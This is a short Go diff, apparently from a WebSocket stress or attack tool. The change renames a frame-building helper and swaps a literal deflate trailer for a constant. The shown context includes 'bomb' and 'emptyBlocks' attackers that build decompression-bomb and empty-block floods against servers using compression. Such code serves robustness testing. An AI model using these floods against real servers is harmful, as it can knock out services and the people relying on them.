@@ -11,8 +11,8 @@ import (
 // blocks (RFC 1951 §3.2), of which the last four bytes of the last, empty one
 // are left out.
 
-// deflated returns the frame of a compressed binary message.
-func deflated(blocks []byte) []byte {
+// compressedFrame returns the frame of a compressed binary message.
+func compressedFrame(blocks []byte) []byte {
 	return masked(ws.Header{Fin: true, Rsv: ws.Rsv(true, false, false), OpCode: ws.OpBinary}, blocks)
 }
 
@@ -28,7 +28,7 @@ func bomb(*Target) attacker {
 	_, _ = w.Write(make([]byte, 1<<20)) // a buffer takes all
 	_ = w.Flush()
 	blocks := bytes.Repeat(out.Bytes(), mebibytes)
-	return newFlood(nil, deflated(bytes.TrimSuffix(blocks, []byte{0x00, 0x00, 0xff, 0xff})))
+	return newFlood(nil, compressedFrame(bytes.TrimSuffix(blocks, []byte(deflateTail))))
 }
 
 // emptyBlocks sends blocks with Huffman codes of their own and nothing but the
@@ -43,7 +43,7 @@ func emptyBlocks(*Target) attacker {
 	}
 	b.append(0, 3) // the beginning of the stored block that ends the message
 	b.align()
-	return newFlood(nil, deflated(b.whole))
+	return newFlood(nil, compressedFrame(b.whole))
 }
 
 // bitstream is a sequence of bits, the first in the lowest of the first byte (RFC
